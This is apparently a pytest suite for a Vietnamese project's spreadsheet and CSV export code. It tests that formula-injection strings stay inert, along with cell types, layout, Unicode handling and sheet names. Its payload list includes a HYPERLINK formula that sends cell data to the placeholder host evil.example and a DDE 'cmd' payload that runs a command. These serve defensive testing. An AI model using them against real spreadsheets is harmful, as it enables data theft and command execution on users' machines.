"""XLSX and CSV exports: types, layout, and formula-injection safety."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from khcn.exports.xlsx import (
    DATE_FORMAT,
    INTEGER_FORMAT,
    is_dangerous,
    rows_to_csv,
    sanitize_sheet_name,
    table_to_xlsx,
)

PAYLOADS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "＝1+1",
]


def build(rows, headers=None, **options) -> bytes:
    headers = headers or [f"Cột {i}" for i in range(1, len(rows[0]) + 1)]
    return table_to_xlsx(
        title=options.pop("title", "Danh sách nhiệm vụ"), headers=headers, rows=rows, **options
    )


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return "".join(archive.read(n).decode("utf-8") for n in names)


def all_cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


# -- formula injection ------------------------------------------------------------------------------


def test_formula_payloads_stay_strings():
    data = build([[payload] for payload in PAYLOADS], headers=["=HEADER()"], title="=TITLE()")
    cells = all_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.data_type == "e"]
    values = [c.value for c in cells if c.value is not None]
    for payload in [*PAYLOADS, "=HEADER()", "=TITLE()"]:
        # Tabs and CRs survive too; the text is unchanged, not prefixed.
        assert payload in values
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert not re.search(r"<(\w+:)?f[ >]", xml)


def test_dangerous_strings_get_quote_prefix():
    data = build([["=1+1"], ["an toàn"]])
    sheet = load_workbook(io.BytesIO(data)).active
    values = {c.value: c for row in sheet.iter_rows(min_row=4) for c in row}
    assert values["=1+1"].quotePrefix is True
    assert not values["an toàn"].quotePrefix


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "＝1"])
def test_is_dangerous(text):
    assert is_dangerous(text)


@pytest.mark.parametrize("text", ["1=1", "Nguyễn", "", " =1"])
def test_is_not_dangerous(text):
    assert not is_dangerous(text)


# -- types and layout ------------------------------------------------------------------------------


def test_layout_title_header_freeze_filter():
    data = build(
        [[1, "Đề tài A"], [2, "Đề tài B"]],
        headers=["STT", "Tên đề tài"],
        subtitle="Năm 2025",
        sheet_name="Đề tài",
    )
    book = load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "Đề tài"
    assert sheet["A1"].value == "Danh sách nhiệm vụ" and sheet["A1"].font.b
    assert sheet["A2"].value == "Năm 2025"
    assert [c.value for c in sheet[4]] == ["STT", "Tên đề tài"]
    assert all(c.font.b for c in sheet[4])
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:B6"
    assert sheet.print_title_rows == "$4:$4"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width


def test_header_row_without_subtitle():
    sheet = load_workbook(io.BytesIO(build([[1]], headers=["STT"]))).active
    assert sheet["A3"].value == "STT"
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:A4"


def test_typed_cells():
    when = dt.datetime(2026, 2, 5, 9, 30)
    data = build(
        [[1_250_000_000, dt.date(2026, 2, 5), when, 2.5, Decimal("1500000"), True, None, Decimal("2.75")]],
        money_columns={7},
    )
    sheet = load_workbook(io.BytesIO(data)).active
    money, day, moment, score, dec_int, flag, empty, money_dec = sheet[4]
    assert money.value == 1_250_000_000 and money.data_type == "n" and money.number_format == INTEGER_FORMAT
    assert day.is_date and day.value == dt.datetime(2026, 2, 5) and day.number_format == DATE_FORMAT
    assert moment.is_date and moment.value == when and moment.number_format.startswith("dd/mm/yyyy")
    assert score.value == 2.5 and score.number_format == "#,##0.00"
    assert dec_int.value == 1_500_000 and dec_int.number_format == INTEGER_FORMAT
    assert flag.value is True
    assert empty.value is None
    assert money_dec.value == 3 and money_dec.number_format == INTEGER_FORMAT


def test_aware_datetimes_are_shown_in_local_time(settings):
    settings.TIME_ZONE = "Asia/Ho_Chi_Minh"
    moment = dt.datetime(2026, 2, 5, 2, 0, tzinfo=dt.UTC)
    sheet = load_workbook(io.BytesIO(build([[moment]]))).active
    assert sheet["A4"].value == dt.datetime(2026, 2, 5, 9, 0)


def test_vietnamese_round_trips_as_nfc():
    decomposed = unicodedata.normalize("NFD", "Nghiên cứu ứng dụng công nghệ Đồng bằng")
    data = build([[decomposed]], headers=[unicodedata.normalize("NFD", "Tên nhiệm vụ")])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A3"].value == "Tên nhiệm vụ"
    assert sheet["A4"].value == "Nghiên cứu ứng dụng công nghệ Đồng bằng"
    assert unicodedata.is_normalized("NFC", sheet["A4"].value)


def test_control_characters_are_dropped():
    sheet = load_workbook(io.BytesIO(build([["a\x00b\x07c"]]))).active
    assert sheet["A4"].value == "abc"


def test_ragged_rows_are_refused():
    with pytest.raises(ValueError, match="Row 2"):
        build([[1, 2], [3]])


def test_twenty_thousand_rows_from_a_generator():
    rows = (
        [i, f"Nhiệm vụ số {i}", 1_000_000 * i, dt.date(2025, 1, 1) + dt.timedelta(days=i % 365), "=1+1"]
        for i in range(1, 20_001)
    )
    data = table_to_xlsx(title="Lớn", headers=["STT", "Tên", "Kinh phí", "Ngày", "Ghi chú"], rows=rows)
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    rows_read = list(sheet.iter_rows(values_only=True))
    assert len(rows_read) == 3 + 20_000
    assert rows_read[-1][:3] == (20_000, "Nhiệm vụ số 20000", 20_000_000_000)
    assert "<f>" not in sheet_xml(data)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Báo cáo [2025]: quý 1/2 *?", "Báo cáo 2025 quý 1 2"),
        ("a" * 40, "a" * 31),
        ("'Trích'", "Trích"),
        ("", "Sheet1"),
        ("[]:*?/\\", "Sheet1"),
        ("History", "History_"),
        (None, "Sheet1"),
    ],
)
def test_sanitize_sheet_name(name, expected):
    assert sanitize_sheet_name(name) == expected


def test_sheet_name_from_long_title_is_valid():
    data = table_to_xlsx(
        title="Danh sách nhiệm vụ khoa học/công nghệ [cấp tỉnh] năm 2025", headers=["A"], rows=[]
    )
    title = load_workbook(io.BytesIO(data)).active.title
    assert len(title) <= 31
    assert not set(title) & set("[]:*?/\\")


# -- CSV --------------------------------------------------------------------------------------------


def test_csv_bom_and_prefix():
    data = rows_to_csv(
        ["Tên", "Giá trị", "Ngày"],
        [[p, 1_250_000, dt.date(2026, 2, 5)] for p in ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "An toàn"]],
    )
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Tên", "Giá trị", "Ngày"]
    firsts = [r[0] for r in rows[1:]]
    assert firsts == ["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx", "An toàn"]
    assert rows[1][1:] == ["1250000", "05/02/2026"]


def test_csv_numbers_are_not_prefixed_and_text_is_nfc():
    data = rows_to_csv(["n"], [[-5], [unicodedata.normalize("NFD", "Điều")]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["-5"]
    assert rows[2] == ["Điều"] and unicodedata.is_normalized("NFC", rows[2][0])
